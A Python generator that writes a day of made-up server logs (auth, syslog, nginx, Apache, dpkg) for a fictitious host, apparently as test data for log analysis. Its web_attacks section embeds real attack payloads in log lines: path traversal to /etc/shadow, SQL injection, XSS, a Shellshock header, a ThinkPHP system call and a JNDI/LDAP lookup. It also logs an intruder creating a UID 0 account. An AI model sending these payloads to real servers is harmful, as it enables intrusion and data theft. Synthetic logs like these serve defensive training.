#!/usr/bin/env python3
"""Writes the day that `./dev day` replays: the logs of one small web server, 14 March 2026, 00:00 to 24:00 UTC.

usage: tools/make_day.py [--seed N] [--check] [FOLDER]      FOLDER: share/day

The same seed gives the same bytes. --check writes nothing and fails when FOLDER holds other bytes. Everything is made
up; addresses are those that are kept free for documentation (RFC 5737, RFC 3849).

What happens on that day, apart from its noise: guessing of root's password (03:12), of user names (all day), of one
account by two dozen addresses (14:05), of tomas' password with success (21:40) and what the guest then tries; scans of
the web server (02:20, 11:35, 16:50), guesses at its log-in page (19:05); two new accounts, packages, a full disk.
"""
import argparse, pathlib, random, sys

HOST, OWN = "larder", "192.0.2.10"
HOME = pathlib.Path(__file__).resolve().parent.parent / "share/day"
DAY = 24 * 3600
BROWSERS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:136.0) Gecko/20100101 Firefox/136.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/134.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3) Mobile Safari/604.1",
)
PAGES = ("/", "/bread", "/bread/rye", "/jam", "/jam/quince", "/cheese", "/season", "/opening-hours", "/search?q=rye",
         "/basket", "/recipes/plum-cake", "/recipes/barley-soup", "/contact")
PARTS = ("/static/site.css", "/static/site.js", "/static/logo.svg", "/media/rye.webp", "/media/jam.webp", "/favicon.ico")


class Day:
    """Collects lines with their times; the files are written sorted."""

    def __init__(self, seed):
        self.random = random.Random(seed)
        self.lines = {}
        self.count = 0

    # Only random() gives the same numbers in every version of Python.
    def number(self, low, high):
        return low + int(self.random.random() * (high - low + 1))

    def pick(self, things):
        return things[int(self.random.random() * len(things))]

    def chance(self, part):
        return self.random.random() < part

    def often(self, times, begin=0, end=DAY):
        """`times` moments between begin and end, in order."""
        return sorted(begin + self.random.random() * (end - begin) for _ in range(times))

    def by_day(self, times):
        """`times` moments, most of them between 08:00 and 22:00."""
        moments = self.often(times)
        return sorted(t if 8 * 3600 <= t < 22 * 3600 or self.chance(0.3) else 8 * 3600 + t / DAY * 14 * 3600 for t in moments)

    def put(self, name, t, text):
        if 0 <= t < DAY:
            self.count += 1
            self.lines.setdefault(name, []).append((t, self.count, text))

    def syslog(self, name, t, program, text):
        self.put(name, t, f"Mar 14 {clock(t)} {HOST} {program}: {text}")

    def auth(self, t, program, text):
        self.syslog("auth.log", t, program, text)

    def system(self, t, program, text):
        self.syslog("syslog.log", t, program, text)

    def kernel(self, t, text):
        self.system(t, "kernel", f"[{1_204_331 + t:14.6f}] {text}")

    def web(self, t, address, request, status, size, agent, referer="-", user="-"):
        self.put("nginx-access.log", t,
                 f'{address} - {user} [14/Mar/2026:{clock(t)} +0000] "{request}" {status} {size} "{referer}" "{agent}"')

    def nginx_error(self, t, level, text):
        self.put("nginx-error.log", t, f"2026/03/14 {clock(t)} [{level}] 812#812: {text}")

    def apache_error(self, t, kind, address, text):
        client = f" [client {address}]" if address else ""
        micros = int((t - int(t)) * 1_000_000)
        self.put("apache-error.log", t,
                 f"[Sat Mar 14 {clock(t)}.{micros:06d} 2026] [{kind}] [pid 9{self.number(10, 49)}]{client} {text}")


def clock(t):
    t = int(t)
    return f"{t // 3600:02d}:{t // 60 % 60:02d}:{t % 60:02d}"


def at(text):
    hours, minutes = text.split(":")
    return int(hours) * 3600 + int(minutes) * 60


# sshd ------------------------------------------------------------------------------------------------------------

def ssh_failure(day, t, user, address, known, pid=None, port=None, last=True):
    pid = pid or 2000 + int(t) // 3 + day.number(0, 9)
    port = port or day.number(32768, 60999)
    program = f"sshd[{pid}]"
    pam = f"logname= uid=0 euid=0 tty=ssh ruser= rhost={address} "
    if known:
        day.auth(t, program, f"pam_unix(sshd:auth): authentication failure; {pam} user={user}")
        day.auth(t + 2, program, f"Failed password for {user} from {address} port {port} ssh2")
    else:
        day.auth(t, program, f"Invalid user {user} from {address} port {port}")
        day.auth(t + 0.1, program, "pam_unix(sshd:auth): check pass; user unknown")
        day.auth(t + 0.2, program, f"pam_unix(sshd:auth): authentication failure; {pam}")
        day.auth(t + 2, program, f"Failed password for invalid user {user} from {address} port {port} ssh2")
    if last:
        who = "authenticating user" if known else "invalid user"
        day.auth(t + 2.4, program, f"Received disconnect from {address} port {port}:11: Bye Bye [preauth]")
        day.auth(t + 2.4, program, f"Disconnected from {who} {user} {address} port {port} [preauth]")
    return pid, port


def ssh_session(day, t, user, address, length, how="publickey"):
    pid, port = 2000 + int(t) // 3 + 11, day.number(32768, 60999)
    program = f"sshd[{pid}]"
    key = ": ED25519 SHA256:mAdeUpKeyOf" + user.capitalize() + "0000000000000000000000000000" if how == "publickey" else ""
    day.auth(t, program, f"Accepted {how} for {user} from {address} port {port} ssh2{key}")
    day.auth(t, program, f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)")
    day.auth(t + 0.3, "systemd-logind[640]", f"New session {pid} of user {user}.")
    day.system(t + 0.4, "systemd[1]", f"Started session-{pid}.scope - Session {pid} of User {user}.")
    day.auth(t + length, program, f"Received disconnect from {address} port {port}:11: disconnected by user")
    day.auth(t + length, program, f"Disconnected from user {user} {address} port {port}")
    day.auth(t + length, program, f"pam_unix(sshd:session): session closed for user {user}")
    day.auth(t + length + 0.2, "systemd-logind[640]", f"Session {pid} logged out. Waiting for processes to exit.")
    day.auth(t + length + 0.3, "systemd-logind[640]", f"Removed session {pid}.")


def ssh_guessing(day):
    names = ("admin", "test", "ubuntu", "oracle", "git", "ftpuser", "postgres", "user", "pi", "minecraft", "hadoop")
    noise = [f"198.51.100.{n}" for n in (7, 23, 61, 88, 113, 190, 201, 240)] + ["2001:db8:66::9"]
    for t in day.often(150):
        ssh_failure(day, t, day.pick(names), day.pick(noise), False)
    for t in day.often(16):
        address, port = day.pick(noise), day.number(32768, 60999)
        pid = 2000 + int(t) // 3
        day.auth(t, f"sshd[{pid}]", day.pick((
            f"Connection closed by {address} port {port} [preauth]",
            f"banner exchange: Connection from {address} port {port}: invalid format",
            f"Unable to negotiate with {address} port {port}: no matching key exchange method found. "
            "Their offer: diffie-hellman-group1-sha1 [preauth]",
            f"Connection reset by {address} port {port} [preauth]")))
    # One address at root, six guesses a connection.
    t = at("03:12")
    for _ in range(34):
        pid, port = 2000 + int(t) // 3, day.number(32768, 60999)
        for _ in range(6):
            ssh_failure(day, t, "root", "203.0.113.9", True, pid, port, last=False)
            t += 2.5 + day.random.random()
        day.auth(t, f"sshd[{pid}]", "error: maximum authentication attempts exceeded for root from 203.0.113.9 "
                 f"port {port} ssh2 [preauth]")
        day.auth(t, f"sshd[{pid}]", f"Disconnecting authenticating user root 203.0.113.9 port {port}: "
                 "Too many authentication failures [preauth]")
        day.auth(t, f"sshd[{pid}]", "PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
                 "rhost=203.0.113.9  user=root")
        t += 3 + 9 * day.random.random()
    # Two dozen addresses share the work, three guesses each.
    for i, t in enumerate(day.often(72, at("14:05"), at("15:10"))):
        ssh_failure(day, t, "deploy" if i % 3 else "tomas", f"198.51.100.{128 + i % 24}", i % 3 == 0)
    # And one is lucky.
    t = at("21:40")
    for _ in range(14):
        ssh_failure(day, t, "tomas", "203.0.113.77", True)
        t += 5 + 4 * day.random.random()
    ssh_session(day, t + 4, "tomas", "203.0.113.77", 1510, "password")
    return t + 4


# people ----------------------------------------------------------------------------------------------------------

def sudo(day, t, user, command, tty="pts/0", trouble=""):
    text = f"{user:>8} : {trouble}TTY={tty} ; PWD=/home/{user} ; USER=root ; COMMAND={command}"
    day.auth(t, "sudo", text)
    if not trouble:
        day.auth(t, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1001)")
        day.auth(t + 2, "sudo", "pam_unix(sudo:session): session closed for user root")


def su(day, t, user, good, tty="pts/1", target="root"):
    pid = 2000 + int(t) // 3 + 5
    if good:
        day.auth(t, f"su[{pid}]", f"(to {target}) {user} on {tty}")
        day.auth(t, f"su[{pid}]", f"pam_unix(su-l:session): session opened for user {target}(uid=0) by {user}(uid=1001)")
        day.auth(t + 300, f"su[{pid}]", f"pam_unix(su-l:session): session closed for user {target}")
    else:
        day.auth(t, f"su[{pid}]", f"pam_unix(su-l:auth): authentication failure; logname={user} uid=1001 euid=0 tty={tty} "
                 f"ruser={user} rhost=  user={target}")
        day.auth(t + 2, f"su[{pid}]", f"FAILED SU (to {target}) {user} on {tty}")


def people(day, lucky):
    for user, address, hours in (("nora", "192.0.2.20", ("07:52", "09:30", "13:10", "17:45")),
                                 ("ines", "2001:db8:1::20", ("08:15", "10:05", "15:40", "22:05")),
                                 ("backup", "192.0.2.31", ("01:00", "05:00", "09:00", "13:00", "17:00", "21:00"))):
        for hour in hours:
            ssh_session(day, at(hour) + day.number(0, 50), user, address, day.number(60, 2400))
    for user, hour, command in (("nora", "07:55", "/usr/bin/apt update"), ("nora", "07:57", "/usr/bin/apt upgrade -y"),
                                ("ines", "08:21", "/usr/bin/systemctl status nginx"),
                                ("ines", "10:12", "/usr/bin/apt install php8.2-fpm"),
                                ("ines", "10:19", "/usr/sbin/groupadd bakers"),
                                ("ines", "10:20", "/usr/sbin/useradd -m -g bakers greta"),
                                ("ines", "10:22", "/usr/sbin/useradd -r -s /usr/sbin/nologin ovenwatch"),
                                ("nora", "13:14", "/usr/bin/journalctl -u php8.2-fpm"),
                                ("nora", "17:49", "/usr/bin/systemctl reload nginx"),
                                ("ines", "22:08", "/usr/sbin/usermod -L tomas"),
                                ("ines", "22:10", "/usr/sbin/userdel svc_sync")):
        sudo(day, at(hour) + day.number(0, 20), user, command)
    sudo(day, at("13:13"), "nora", "/usr/bin/journalctl -u php8.2-fpm", trouble="1 incorrect password attempt ; ")
    day.auth(at("13:13") - 2, "sudo", "pam_unix(sudo:auth): authentication failure; logname=nora uid=1001 euid=0 "
             "tty=/dev/pts/0 ruser=nora rhost=  user=nora")
    day.auth(at("10:19") + 25, "groupadd[6112]", "group added to /etc/group: name=bakers, GID=1010")
    day.auth(at("10:19") + 25, "groupadd[6112]", "new group: name=bakers, GID=1010")
    day.auth(at("10:20") + 22, "useradd[6120]", "new user: name=greta, UID=1011, GID=1010, home=/home/greta, "
             "shell=/bin/bash, from=/dev/pts/0")
    day.auth(at("10:21") + 9, "passwd[6124]", "pam_unix(passwd:chauthtok): password changed for greta")
    day.auth(at("10:22") + 22, "useradd[6131]", "new group: name=ovenwatch, GID=988")
    day.auth(at("10:22") + 22, "useradd[6131]", "new user: name=ovenwatch, UID=988, GID=988, home=/home/ovenwatch, "
             "shell=/usr/sbin/nologin, from=/dev/pts/0")
    su(day, at("08:40"), "ines", True)
    su(day, at("15:44"), "ines", False)
    su(day, at("15:45"), "ines", True)
    # The guest of 21:40 looks around.
    for i, command in enumerate(("/usr/bin/id", "/bin/bash", "/usr/bin/cat /etc/shadow")):
        sudo(day, lucky + 40 + 31 * i, "tomas", command, "pts/2", "user NOT in sudoers ; ")
    for i in range(4):
        su(day, lucky + 180 + 20 * i, "tomas", False, "pts/2")
    su(day, lucky + 290, "tomas", False, "pts/2", "nora")
    day.system(lucky + 420, "systemd[1]", "Started user@1003.service - User Manager for UID 1003.")
    day.kernel(lucky + 510, "enp1s0: entered promiscuous mode")
    day.kernel(lucky + 560, f"dirtier[{int(lucky) // 3}]: segfault at 0 ip 000055d0c0ffee00 sp 00007ffd0badf00d error 6 in dirtier[55d0c0ff0000+2000]")
    day.auth(lucky + 640, "useradd[14022]", "new user: name=svc_sync, UID=0, GID=0, home=/var/tmp/.sync, shell=/bin/sh, "
             "from=/dev/pts/2")
    day.kernel(lucky + 900, "enp1s0: left promiscuous mode")
    day.auth(at("22:08") + 24, "usermod[14210]", "lock user 'tomas' password")
    day.auth(at("22:10") + 25, "userdel[14230]", "delete user 'svc_sync'")


# the system ------------------------------------------------------------------------------------------------------

def cron(day):
    jobs = [(t, "root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1") for t in range(at("00:05"), DAY, 1200)]
    jobs += [(t, "root", "cd / && run-parts --report /etc/cron.hourly") for t in range(at("00:17"), DAY, 3600)]
    jobs += [(t, "www-data", "php /srv/shop/bin/queue.php --once") for t in range(at("00:00"), DAY, 900)]
    jobs += [(at("04:30"), "backup", "/usr/local/bin/pack-backup --quiet")]
    for t, user, command in jobs:
        pid, t = 1500 + t // 7, t + 1
        day.auth(t, f"CRON[{pid}]", f"pam_unix(cron:session): session opened for user {user}(uid=0) by (uid=0)")
        day.system(t, f"CRON[{pid}]", f"({user}) CMD ({command})")
        day.auth(t + day.number(0, 3), f"CRON[{pid}]", f"pam_unix(cron:session): session closed for user {user}")
    day.system(at("10:40"), "cron[588]", "(ines) RELOAD (crontabs/ines)")
    day.system(at("10:39") + 40, "crontab[6240]", "(ines) REPLACE (ines)")


def services(day):
    units = ("logrotate.service - Rotate log files", "apt-daily.service - Daily apt download activities",
             "man-db.service - Daily man-db regeneration", "fstrim.service - Discard unused blocks",
             "phpsessionclean.service - Clean php session files", "systemd-tmpfiles-clean.service - Cleanup of Temporary Directories")
    for t in day.often(230):
        unit = day.pick(units)
        name = unit.split()[0]
        day.system(t, "systemd[1]", f"Starting {unit}...")
        day.system(t + 1, "systemd[1]", f"{name}: Deactivated successfully.")
        day.system(t + 1, "systemd[1]", f"Finished {unit}.")
    for t in day.often(70):
        day.system(t, "chronyd[601]", day.pick(("Selected source 192.0.2.123 (ntp.example.net)",
                                                "Source 198.51.100.123 replaced with 203.0.113.123 (ntp.example.org)",
                                                "System clock wrong by 0.000731 seconds")))
    for t in day.often(24):
        day.system(t, "dhclient[512]", "DHCPREQUEST for 192.0.2.10 on enp1s0 to 192.0.2.1 port 67")
        day.system(t + 0.1, "dhclient[512]", "DHCPACK of 192.0.2.10 from 192.0.2.1")
        day.system(t + 0.2, "dhclient[512]", f"bound to 192.0.2.10 -- renewal in {day.number(1500, 3600)} seconds.")
    for t in day.by_day(90):
        letter, sender, size = f"{day.number(2**40, 2**44):X}", f"shop{day.number(1, 9)}@{HOST}.example", day.number(900, 9000)
        pid = 3000 + int(t) // 5
        day.system(t, f"postfix/pickup[{pid}]", f"{letter}: uid=33 from=<{sender}>")
        day.system(t + 0.2, "postfix/qmgr[702]", f"{letter}: from=<{sender}>, size={size}, nrcpt=1 (queue active)")
        day.system(t + 1, f"postfix/smtp[{pid + 2}]", f"{letter}: to=<guest{day.number(1, 400)}@example.org>, "
                   f"relay=mail.example.org[198.51.100.25]:25, delay=1.1, delays=0.1/0/0.4/0.6, dsn=2.0.0, status=sent (250 2.0.0 Ok)")
        day.system(t + 1.1, "postfix/qmgr[702]", f"{letter}: removed")
    for t in day.often(130):
        source = day.pick(("198.51.100.7", "198.51.100.61", "203.0.113.200", "203.0.113.45", "198.51.100.240"))
        port = day.pick((23, 445, 3389, 5900, 8080, 6379, 2375))
        day.kernel(t, f"[UFW BLOCK] IN=enp1s0 OUT= MAC=02:00:00:00:00:10:02:00:00:00:00:01:08:00 SRC={source} DST={OWN} "
                   f"LEN=44 TOS=0x00 PREC=0x00 TTL=241 ID={day.number(1, 65000)} PROTO=TCP SPT={day.number(32768, 60999)} "
                   f"DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0")
    day.kernel(at("06:31"), "enp1s0: Link is Down")
    day.kernel(at("06:31") + 4, "enp1s0: Link is Up - 1Gbps/Full - flow control rx/tx")
    day.kernel(at("12:20"), "usb 1-2: new high-speed USB device number 5 using xhci_hcd")
    day.kernel(at("12:20") + 1, "usb 1-2: Product: Flash Disk")
    day.kernel(at("16:58"), "Out of memory: Killed process 9123 (php-fpm8.2) total-vm:1420332kB, anon-rss:803120kB, "
               "file-rss:0kB, shmem-rss:2012kB, UID:33 pgtables:2104kB oom_score_adj:0")
    for t in day.often(12, at("18:20"), at("18:45")):
        day.system(t, "rsyslogd", "file '/var/log/debug.1': write error: No space left on device [v8.2302.0 try "
                   "https://www.rsyslog.com/e/2027 ]")
    day.system(at("18:46"), "systemd[1]", "logrotate.service: Main process exited, code=exited, status=1/FAILURE")
    day.system(at("18:46"), "systemd[1]", "logrotate.service: Failed with result 'exit-code'.")
    day.system(at("18:46"), "systemd[1]", "Failed to start logrotate.service - Rotate log files.")


def packages(day):
    def install(t, name, old, new):
        for i, words in enumerate((f"install {name} <none> {new}" if old == "<none>" else f"upgrade {name} {old} {new}",
                                   f"status half-installed {name} {new}", f"status unpacked {name} {new}",
                                   f"configure {name} {new} <none>", f"status half-configured {name} {new}",
                                   f"status installed {name} {new}")):
            day.put("dpkg.log", t + i * 0.7, f"2026-03-14 {clock(t + i * 0.7)} {words}")
    for i, (name, old, new) in enumerate((("libc-bin:amd64", "2.36-9+deb12u9", "2.36-9+deb12u10"),
                                          ("openssl:amd64", "3.0.15-1~deb12u1", "3.0.16-1~deb12u1"),
                                          ("curl:amd64", "7.88.1-10+deb12u11", "7.88.1-10+deb12u12"),
                                          ("tzdata:all", "2024b-0+deb12u1", "2025b-0+deb12u1"),
                                          ("nginx:amd64", "1.22.1-9+deb12u1", "1.22.1-9+deb12u2"))):
        install(at("07:57") + 30 + 9 * i, name, old, new)
    for i, name in enumerate(("php-common:all", "php8.2-common:amd64", "php8.2-cli:amd64", "php8.2-fpm:amd64")):
        install(at("10:12") + 40 + 8 * i, name, "<none>", "8.2.28-1~deb12u1")
    t = at("23:20")
    for i, state in enumerate(("remove netcat-traditional:amd64 1.10-47 <none>", "status half-configured netcat-traditional:amd64 1.10-47",
                               "status half-installed netcat-traditional:amd64 1.10-47", "status not-installed netcat-traditional:amd64 <none>")):
        day.put("dpkg.log", t + i, f"2026-03-14 {clock(t + i)} {state}")


# the web server --------------------------------------------------------------------------------------------------

def visitors(day):
    guests = [f"192.0.2.{n}" for n in range(40, 90)] + [f"198.51.100.{n}" for n in range(30, 60)] + [f"2001:db8:{n:x}::{n}" for n in range(16, 40)]
    for t in day.by_day(330):
        address, agent, before = day.pick(guests), day.pick(BROWSERS), "-"
        for _ in range(day.number(1, 4)):
            page = day.pick(PAGES)
            day.web(t, address, f"GET {page} HTTP/2.0", 200, day.number(1800, 24000), agent, before)
            for part in PARTS[: day.number(0, 4)]:
                day.web(t + 0.4, address, f"GET {part} HTTP/2.0", 200 if day.chance(0.6) else 304, day.number(0, 40000), agent,
                        "https://larder.example/")
            before = "https://larder.example" + page
            t += 4 + 60 * day.random.random()
    for t in day.often(60):
        day.web(t, "198.51.100.99", f"GET {day.pick(PAGES)} HTTP/1.1", 200, day.number(1800, 24000),
                "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/)")
    for t in day.by_day(40):
        page = day.pick(("/old/menu", "/jam/plum", "/apple-touch-icon.png", "/feed.xml"))
        address = day.pick(guests)
        day.web(t, address, f"GET {page} HTTP/2.0", 404, 153, day.pick(BROWSERS))
        day.nginx_error(t, "error", f'*{int(t)} open() "/srv/www{page}" failed (2: No such file or directory), client: {address}, '
                        f'server: larder.example, request: "GET {page} HTTP/2.0", host: "larder.example"')


def scan(day, t, address, agent, requests, pause):
    for request, status in requests:
        day.web(t, address, request, status, 153 if status == 404 else day.number(200, 900), agent)
        path = request.partition(" ")[2].split(" ")[0].split("?")[0]
        if status == 404 and day.chance(0.5):
            day.nginx_error(t, "error", f'*{int(t)} open() "/srv/www{path}" failed (2: No such file or directory), client: {address}, '
                            f'server: larder.example, request: "{request}", host: "{OWN}"')
        t += pause * (0.5 + day.random.random())


def web_attacks(day):
    paths = [f"/{name}{end}" for name in ("admin", "backup", "db", "phpmyadmin", "manager", "console", "config", "old", "test", "shell")
             for end in ("/", ".php", ".zip", ".sql", ".bak", "/index.php")]
    scan(day, at("02:20"), "198.51.100.61", "Mozilla/5.0 zgrab/0.x",
         [(f"GET {p} HTTP/1.1", 404) for p in paths] + [("GET /.env HTTP/1.1", 404), ("GET /.git/config HTTP/1.1", 403)], 1.2)
    up = ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/shadow")
    scan(day, at("02:24"), "198.51.100.61", "Mozilla/5.0 zgrab/0.x",
         [(f"GET /download?file={u} HTTP/1.1", 400 if i % 2 else 404) for i, u in enumerate(up * 3)], 1)
    sql = ("1%27%20OR%20%271%27=%271", "1%20UNION%20SELECT%20NULL,NULL--", "1;SELECT%20SLEEP(5)--",
           "1%20AND%201=CAST((SELECT%20version())%20AS%20int)", "-1+union+all+select+1,2,concat(user(),0x3a,database())")
    scan(day, at("11:35"), "203.0.113.45", "sqlmap/1.8.11#stable (https://sqlmap.org)",
         [(f"GET /product.php?id={sql[i % len(sql)]} HTTP/1.1", 500 if i % 7 == 0 else 200) for i in range(90)], 0.8)
    script = ("%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E")
    scan(day, at("11:41"), "203.0.113.45", BROWSERS[0], [(f"GET /search?q={s} HTTP/1.1", 200) for s in script * 4], 2)
    scan(day, at("16:50"), "198.51.100.201", "() { :; }; /bin/bash -c 'ping -c 3 198.51.100.201'",
         [(f"GET /cgi-bin/{name} HTTP/1.1", 404) for name in ("status", "test.cgi", "bash", "printenv", "admin.cgi")], 1.5)
    scan(day, at("16:52"), "198.51.100.201", "curl/8.5.0",
         [("GET /index.php?s=/index/think/app/invokefunction&function=system&vars[]=id HTTP/1.1", 404),
          ("POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400), ("GET /?x=${jndi:ldap://198.51.100.201/a} HTTP/1.1", 200),
          ("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03", 400)], 2)
    t = at("19:05")
    for i in range(160):
        day.web(t, "198.51.100.140", "POST /wp-login.php HTTP/1.1", 200 if i % 9 else 403, day.number(4000, 4600), BROWSERS[1])
        if i % 9 == 0:
            day.nginx_error(t, "error", f'*{int(t)} limiting requests, excess: 5.{day.number(100, 999)} by zone "login", client: '
                            '198.51.100.140, server: larder.example, request: "POST /wp-login.php HTTP/1.1", host: "larder.example"')
        t += 1 + 2 * day.random.random()


def web_errors(day):
    for t in day.by_day(24):
        address = f"192.0.2.{day.number(40, 89)}"
        day.nginx_error(t, "error", f"*{int(t)} " + day.pick((
            "upstream timed out (110: Connection timed out) while reading response header from upstream",
            "connect() failed (111: Connection refused) while connecting to upstream",
            'access forbidden by rule',
            f"client intended to send too large body: {day.number(2, 9)}485760 bytes")) +
            f', client: {address}, server: larder.example, request: "POST /basket HTTP/2.0", upstream: '
            '"fastcgi://unix:/run/php/php8.2-fpm.sock:", host: "larder.example"')
    for t in day.by_day(26):
        address = f"192.0.2.{day.number(40, 89)}"
        day.nginx_error(t, "error", f'*{int(t)} FastCGI sent in stderr: "PHP message: PHP Warning:  Undefined array key "size" in '
                        f'/srv/shop/lib/basket.php on line {day.number(20, 200)}" while reading response header from upstream, '
                        f'client: {address}, server: larder.example, request: "GET /basket HTTP/2.0", host: "larder.example"')
    day.nginx_error(at("17:49") + 6, "notice", "signal process started")
    for t in day.by_day(60):
        address = f"192.0.2.{day.number(40, 89)}:{day.number(32768, 60999)}"
        day.apache_error(t, *day.pick((
            ("php:warn", address, f"PHP Warning:  Undefined variable $oven in /srv/stock/list.php on line {day.number(9, 80)}"),
            ("php:notice", address, "PHP Notice:  Trying to access array offset on null in /srv/stock/item.php on line 31"),
            ("php:error", address, "PHP Fatal error:  Uncaught mysqli_sql_exception: Server has gone away in /srv/stock/db.php:14"),
            ("core:info", address, "AH00128: File does not exist: /srv/stock/robots.txt"),
            ("authz_core:error", address, "AH01630: client denied by server configuration: /srv/stock/internal/"))))
    for i, t in enumerate(day.often(45, at("20:10"), at("20:14"))):
        port = 40000 + i
        day.apache_error(t, "auth_basic:error", f"203.0.113.45:{port}",
                         'AH01617: user stock: authentication failure for "/stock/": Password Mismatch' if i % 3 else
                         f'AH01618: user {day.pick(("admin", "root", "manager"))} not found: /stock/')
    for t in day.often(10, at("16:53"), at("16:55")):
        day.apache_error(t, "core:error", f"198.51.100.201:{day.number(32768, 60999)}",
                         "AH00126: Invalid URI in request GET /../../../../etc/passwd HTTP/1.1")
    day.apache_error(at("00:00") + 2, "mpm_event:notice", "", "AH00489: Apache/2.4.62 (Debian) configured -- resuming normal operations")
    day.apache_error(at("00:00") + 2.1, "core:notice", "", "AH00094: Command line: '/usr/sbin/apache2'")


def make(seed):
    day = Day(seed)
    lucky = ssh_guessing(day)
    people(day, lucky)
    cron(day)
    services(day)
    packages(day)
    visitors(day)
    web_attacks(day)
    web_errors(day)
    return {name: "".join(text + "\n" for _, _, text in sorted(lines)) for name, lines in sorted(day.lines.items())}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seed", type=int, default=20260314)
    parser.add_argument("--check", action="store_true")
    parser.add_argument("folder", nargs="?", type=pathlib.Path, default=HOME)
    arguments = parser.parse_args()
    wrong = 0
    for name, text in make(arguments.seed).items():
        path = arguments.folder / name
        if not arguments.check:
            path.write_bytes(text.encode())
        elif not path.exists() or path.read_bytes() != text.encode():
            print(f"{path} is not what tools/make_day.py writes", file=sys.stderr)
            wrong = 1
    return wrong


if __name__ == "__main__":
    sys.exit(main())
